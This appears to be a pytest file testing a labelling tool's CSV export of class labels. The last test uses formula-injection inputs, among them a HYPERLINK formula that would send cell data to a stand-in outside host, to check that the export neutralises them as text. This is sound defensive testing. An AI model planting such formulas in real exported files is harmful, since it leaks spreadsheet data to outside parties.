"""A classification project's labels as a table."""

import csv

import pytest

from engine.formats.annotations import export_annotations
from engine.project.store import Store
from engine.protocol.errors import SaegimError
from tests.helpers.lamps import make_lamps


@pytest.fixture
def store(tmp_path):
    made = Store.open(make_lamps(tmp_path, pictures_each=3))
    yield made
    made.close()


def test_each_picture_is_a_row(store, tmp_path):
    first = store.images.ids()[0]
    store.splits.set([first], "val")
    outcome = export_annotations(store, "csv", tmp_path / "labels.csv")
    with (tmp_path / "labels.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert (outcome.images, outcome.annotations) == (6, 6)
    assert rows[0] == {
        "image": "images/green0.png", "class": "green", "split": "val", "state": "reviewed",
    }  # fmt: skip
    assert [row["class"] for row in rows] == ["green"] * 3 + ["red"] * 3
    assert all((tmp_path / row["image"]).is_file() for row in rows)


def test_names_in_other_scripts_and_with_commas_survive(store, tmp_path):
    class_id = store.classes.rows()[0].id
    store.classes.update(class_id, name='빨강, "밝은"')
    export_annotations(store, "csv", tmp_path / "labels.csv")
    content = (tmp_path / "labels.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbfimage,class,split,state\r\n")
    with (tmp_path / "labels.csv").open(encoding="utf-8-sig", newline="") as file:
        assert '빨강, "밝은"' in {row["class"] for row in csv.DictReader(file)}


@pytest.mark.parametrize("name", ["coco", "yolo"])
def test_formats_for_objects_are_refused(store, tmp_path, name):
    with pytest.raises(SaegimError) as refused:
        export_annotations(store, name, tmp_path / "out")
    assert refused.value.code == "wrong_format"
    assert "csv" in str(refused.value)
    assert not (tmp_path / "out").exists()


FORMULA = '=HYPERLINK("http://a.b/?"&A1)'


@pytest.mark.parametrize("name", [FORMULA, "+1", "-1", "@SUM(A1)", "\uff1d1+1"])
def test_what_a_spreadsheet_would_run_is_text(store, tmp_path, name):
    store.classes.update(store.classes.rows()[0].id, name=name)
    export_annotations(store, "csv", tmp_path / "labels.csv")
    with (tmp_path / "labels.csv").open(encoding="utf-8-sig", newline="") as file:
        assert f"'{name}" in {row["class"] for row in csv.DictReader(file)}
